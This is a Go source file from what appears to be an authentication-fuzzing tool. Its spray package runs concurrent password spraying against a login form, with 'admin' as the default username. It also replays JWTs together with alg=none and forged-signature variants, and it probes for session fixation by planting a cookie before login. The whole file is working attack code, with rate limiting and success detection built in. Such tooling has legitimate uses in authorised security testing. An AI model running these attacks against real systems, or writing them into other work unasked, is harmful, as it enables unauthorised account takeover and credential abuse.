// Package spray runs the bulk credential-testing modes: password spraying,
// JWT variant replay and session fixation probing. Every attempt lands in a
// report.Recorder.
package spray

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"authfuzz/pkg/jwtutil"
	"authfuzz/pkg/logger"
	"authfuzz/pkg/metrics"
	"authfuzz/pkg/report"
	"authfuzz/pkg/transport"

	"golang.org/x/sync/semaphore"
	"golang.org/x/time/rate"
)

const (
	ModePassword = report.ModePassword
	ModeJWT      = report.ModeJWT
	ModeFixation = report.ModeFixation

	tokenVariantLen = 80
	dummyPassword   = "dummy"
)

type Config struct {
	BaseURL       string
	LoginPath     string
	UsernameField string
	PasswordField string
	Username      string
	// CheckPath is requested by the jwt and fixation modes.
	CheckPath   string
	Concurrency int
	Timeout     time.Duration
	// RatePerSecond caps attempt starts; zero means unlimited.
	RatePerSecond float64
}

func DefaultConfig() Config {
	return Config{
		LoginPath:     "/login",
		UsernameField: "username",
		PasswordField: "password",
		Username:      "admin",
		CheckPath:     "/",
		Concurrency:   10,
		Timeout:       10 * time.Second,
	}
}

// Summary counts what one run did.
type Summary struct {
	Mode       string `json:"mode"`
	Attempts   int    `json:"attempts"`
	Successful int    `json:"successful"`
	Errors     int    `json:"errors"`
}

type Sprayer struct {
	cfg      Config
	client   *transport.Client
	recorder *report.Recorder
	metrics  *metrics.Collector
	limiter  *rate.Limiter
	logger   *logger.Logger
}

type Option func(*Sprayer)

func WithMetrics(m *metrics.Collector) Option {
	return func(s *Sprayer) { s.metrics = m }
}

func WithLogger(l *logger.Logger) Option {
	return func(s *Sprayer) { s.logger = l }
}

func New(cfg Config, client *transport.Client, recorder *report.Recorder, opts ...Option) (*Sprayer, error) {
	def := DefaultConfig()
	if cfg.BaseURL == "" {
		return nil, fmt.Errorf("base url is required")
	}
	if _, err := url.Parse(cfg.BaseURL); err != nil {
		return nil, fmt.Errorf("invalid base url: %w", err)
	}
	cfg.BaseURL = strings.TrimRight(cfg.BaseURL, "/")
	if cfg.LoginPath == "" {
		cfg.LoginPath = def.LoginPath
	}
	if cfg.UsernameField == "" {
		cfg.UsernameField = def.UsernameField
	}
	if cfg.PasswordField == "" {
		cfg.PasswordField = def.PasswordField
	}
	if cfg.Username == "" {
		cfg.Username = def.Username
	}
	if cfg.CheckPath == "" {
		cfg.CheckPath = def.CheckPath
	}
	if cfg.Concurrency < 1 {
		cfg.Concurrency = def.Concurrency
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = def.Timeout
	}

	s := &Sprayer{
		cfg:      cfg,
		client:   client,
		recorder: recorder,
		logger:   logger.Default(),
	}
	if cfg.RatePerSecond > 0 {
		s.limiter = rate.NewLimiter(rate.Limit(cfg.RatePerSecond), 1)
	}
	for _, opt := range opts {
		opt(s)
	}
	return s, nil
}

func (s *Sprayer) Config() Config { return s.cfg }

// RunPassword tries every password against the login form.
func (s *Sprayer) RunPassword(ctx context.Context, passwords []string) (Summary, error) {
	tally := newTally(ModePassword)
	err := s.pool(ctx, ModePassword, len(passwords), func(ctx context.Context, i int) {
		s.record(tally, s.attemptPassword(ctx, passwords[i]))
	})
	return s.finish(tally, err)
}

func (s *Sprayer) attemptPassword(ctx context.Context, password string) report.Attempt {
	start := time.Now()
	a := report.Attempt{Mode: ModePassword, Username: s.cfg.Username, Password: password}

	resp, err := s.client.Do(ctx, s.loginRequest(password))
	a.Duration = time.Since(start).Seconds()
	if err != nil {
		a.Error = err.Error()
		return a
	}

	body := strings.ToLower(string(resp.Body))
	a.Status = resp.StatusCode
	a.Length = len(resp.Body)
	a.OK = isLoginStatus(resp.StatusCode) &&
		(strings.Contains(body, "dashboard") || strings.Contains(body, "logout") || len(resp.Header.Values("Set-Cookie")) > 0)
	return a
}

// RunJWT replays each token plus its alg=none and corrupted-signature
// variants. Each variant is a separate attempt.
func (s *Sprayer) RunJWT(ctx context.Context, tokens []string) (Summary, error) {
	tally := newTally(ModeJWT)
	err := s.pool(ctx, ModeJWT, len(tokens), func(ctx context.Context, i int) {
		token := tokens[i]
		for _, v := range []string{token, jwtutil.NoneAlg(token), jwtutil.CorruptSignature(token)} {
			if ctx.Err() != nil {
				return
			}
			s.record(tally, s.attemptJWT(ctx, v))
		}
	})
	return s.finish(tally, err)
}

func (s *Sprayer) attemptJWT(ctx context.Context, variant string) report.Attempt {
	start := time.Now()
	a := report.Attempt{Mode: ModeJWT, TokenVariant: truncate(variant, tokenVariantLen)}

	req := &transport.Request{Method: http.MethodGet, URL: s.cfg.BaseURL + s.cfg.CheckPath, Header: http.Header{}}
	if !strings.HasPrefix(variant, "Cookie:") {
		req.Header.Set("Authorization", "Bearer "+variant)
	}

	resp, err := s.client.Do(ctx, req)
	a.Duration = time.Since(start).Seconds()
	if err != nil {
		a.Error = err.Error()
		return a
	}
	a.Status = resp.StatusCode
	a.Length = len(resp.Body)
	a.OK = isLoginStatus(resp.StatusCode) && strings.Contains(strings.ToLower(string(resp.Body)), "logout")
	return a
}

// RunFixation plants sidCookie ("NAME=value") before logging in, attempts
// times, each in a fresh session. An attempt succeeds when the session still
// carries the planted value after login.
func (s *Sprayer) RunFixation(ctx context.Context, attempts int, sidCookie string) (Summary, error) {
	name, value, ok := strings.Cut(sidCookie, "=")
	if !ok || strings.TrimSpace(name) == "" {
		return Summary{Mode: ModeFixation}, fmt.Errorf("session cookie must look like NAME=value, got %q", sidCookie)
	}
	name, value = strings.TrimSpace(name), strings.TrimSpace(value)

	tally := newTally(ModeFixation)
	err := s.pool(ctx, ModeFixation, attempts, func(ctx context.Context, _ int) {
		s.record(tally, s.attemptFixation(ctx, name, value))
	})
	return s.finish(tally, err)
}

func (s *Sprayer) attemptFixation(ctx context.Context, name, value string) report.Attempt {
	start := time.Now()
	a := report.Attempt{Mode: ModeFixation, PreCookie: name + "=" + value}

	session, jar, err := s.client.WithJar()
	if err != nil {
		a.Error = err.Error()
		return a
	}

	pre := &transport.Request{Method: http.MethodGet, URL: s.cfg.BaseURL + s.cfg.CheckPath, Header: http.Header{}}
	pre.Header.Set("Cookie", name+"="+value)
	if _, err := session.Do(ctx, pre); err != nil {
		a.Duration = time.Since(start).Seconds()
		a.Error = err.Error()
		return a
	}

	resp, err := session.Do(ctx, s.loginRequest(dummyPassword))
	a.Duration = time.Since(start).Seconds()
	if err != nil {
		a.Error = err.Error()
		return a
	}
	a.LoginStatus = resp.StatusCode

	base, _ := url.Parse(s.cfg.BaseURL + "/")
	for _, c := range jar.Cookies(base) {
		if c.Name == name && c.Value == value {
			a.OK = true
			break
		}
	}
	return a
}

func (s *Sprayer) loginRequest(password string) *transport.Request {
	form := url.Values{}
	form.Set(s.cfg.UsernameField, s.cfg.Username)
	form.Set(s.cfg.PasswordField, password)

	req := &transport.Request{
		Method: http.MethodPost,
		URL:    s.cfg.BaseURL + s.cfg.LoginPath,
		Header: http.Header{},
		Body:   form.Encode(),
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return req
}

// pool runs n tasks with at most Concurrency in flight. A panicking task is
// logged and counted as done. Cancellation stops new tasks from starting.
func (s *Sprayer) pool(ctx context.Context, mode string, n int, task func(ctx context.Context, i int)) error {
	sem := semaphore.NewWeighted(int64(s.cfg.Concurrency))
	var wg sync.WaitGroup

	s.logger.WithFields(logger.Fields{
		"mode":        mode,
		"tasks":       n,
		"concurrency": s.cfg.Concurrency,
		"base_url":    s.cfg.BaseURL,
	}).Info("Spray started")

	var runErr error
	for i := 0; i < n; i++ {
		if s.limiter != nil {
			if err := s.limiter.Wait(ctx); err != nil {
				runErr = err
				break
			}
		}
		if err := sem.Acquire(ctx, 1); err != nil {
			runErr = err
			break
		}

		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			defer sem.Release(1)
			defer func() {
				if r := recover(); r != nil {
					s.logger.WithFields(logger.Fields{"mode": mode, "task": i}).Errorf("Spray task panicked: %v", r)
				}
			}()

			tctx, cancel := context.WithTimeout(ctx, s.cfg.Timeout)
			defer cancel()
			task(tctx, i)
		}(i)
	}
	wg.Wait()
	return runErr
}

type tally struct {
	mode       string
	attempts   atomic.Int64
	successful atomic.Int64
	errors     atomic.Int64
}

func newTally(mode string) *tally { return &tally{mode: mode} }

func (s *Sprayer) record(t *tally, a report.Attempt) {
	s.recorder.Add(a)
	s.metrics.Attempt(a.Mode, a.OK, a.Duration)

	t.attempts.Add(1)
	if a.OK {
		t.successful.Add(1)
	}
	if a.Error != "" {
		t.errors.Add(1)
	}
}

// finish persists the recorder whatever happened to the run.
func (s *Sprayer) finish(t *tally, runErr error) (Summary, error) {
	sum := Summary{
		Mode:       t.mode,
		Attempts:   int(t.attempts.Load()),
		Successful: int(t.successful.Load()),
		Errors:     int(t.errors.Load()),
	}

	saveErr := s.recorder.Save()
	s.logger.WithFields(logger.Fields{
		"mode":       sum.Mode,
		"attempts":   sum.Attempts,
		"successful": sum.Successful,
		"errors":     sum.Errors,
		"results":    s.recorder.Path(),
	}).Info("Spray finished")

	if runErr != nil {
		return sum, fmt.Errorf("spray %s interrupted: %w", t.mode, runErr)
	}
	if saveErr != nil {
		return sum, saveErr
	}
	return sum, nil
}

func isLoginStatus(code int) bool {
	return code == http.StatusOK || code == http.StatusFound
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n]
}
